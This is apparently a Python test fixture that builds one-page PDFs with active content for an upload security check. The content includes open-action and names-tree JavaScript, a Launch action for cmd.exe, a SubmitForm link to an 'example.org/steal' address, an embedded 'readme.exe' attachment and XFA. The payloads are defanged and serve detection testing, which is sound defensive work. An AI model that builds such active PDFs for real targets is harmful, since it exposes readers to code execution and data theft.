"""Real PDFs with active content, built with pypdf, for the SEC-08 upload check."""

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _name(value):
    return NameObject(value)


def _js(code="app.alert('x')"):
    return DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject(code)})


def _action(kind, **entries):
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name("/" + key)] = value
    return action


def _link(writer, page, action):
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(30)]),
            _name("/A"): writer._add_object(action),
        }
    )
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _annotation(writer, page, subtype):
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        }
    )
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def build(kind=None):
    """A one-page A4 PDF; `kind` names the active content to put in (None: a plain one)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    root = writer._root_object
    if kind == "open-action-js":
        root[_name("/OpenAction")] = writer._add_object(_js())
    elif kind == "names-tree-js":
        names = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_js())])})
        root[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(names)})
    elif kind == "page-aa":
        page[_name("/AA")] = DictionaryObject({_name("/O"): writer._add_object(_js())})
    elif kind == "launch-link":
        _link(writer, page, _action("/Launch", F=TextStringObject("cmd.exe")))
    elif kind == "submit-form-link":
        _link(writer, page, _action("/SubmitForm", F=TextStringObject("http://example.org/steal")))
    elif kind == "goto-then-js":  # a harmless first action whose /Next runs a script
        root[_name("/OpenAction")] = writer._add_object(
            _action("/GoTo", D=ArrayObject([page.indirect_reference, _name("/Fit")]), Next=writer._add_object(_js()))
        )
    elif kind == "embedded-file":
        writer.add_attachment("readme.exe", b"MZ not really a program")
    elif kind == "rich-media":
        _annotation(writer, page, "/RichMedia")
    elif kind == "file-attachment-annotation":
        _annotation(writer, page, "/FileAttachment")
    elif kind == "xfa":
        root[_name("/AcroForm")] = DictionaryObject(
            {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(TextStringObject("<xdp:xdp/>"))}
        )
    elif kind == "open-at-page-one":  # what LibreOffice / WPS write: open at page 1, fit
        root[_name("/OpenAction")] = ArrayObject([page.indirect_reference, _name("/Fit")])
    elif kind == "uri-link":
        _link(writer, page, _action("/URI", URI=TextStringObject("https://www.gqt.org.cn/")))
    elif kind is not None:
        raise ValueError(kind)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


ACTIVE = [
    ("open-action-js", "JavaScript"),
    ("names-tree-js", "JavaScript"),
    ("page-aa", "自动执行"),
    ("launch-link", "启动外部程序"),
    ("submit-form-link", "提交表单"),
    ("goto-then-js", "JavaScript"),
    ("embedded-file", "嵌入的附件"),
    ("rich-media", "多媒体"),
    ("file-attachment-annotation", "附件"),
    ("xfa", "XFA"),
]
HARMLESS = ["open-at-page-one", "uri-link"]
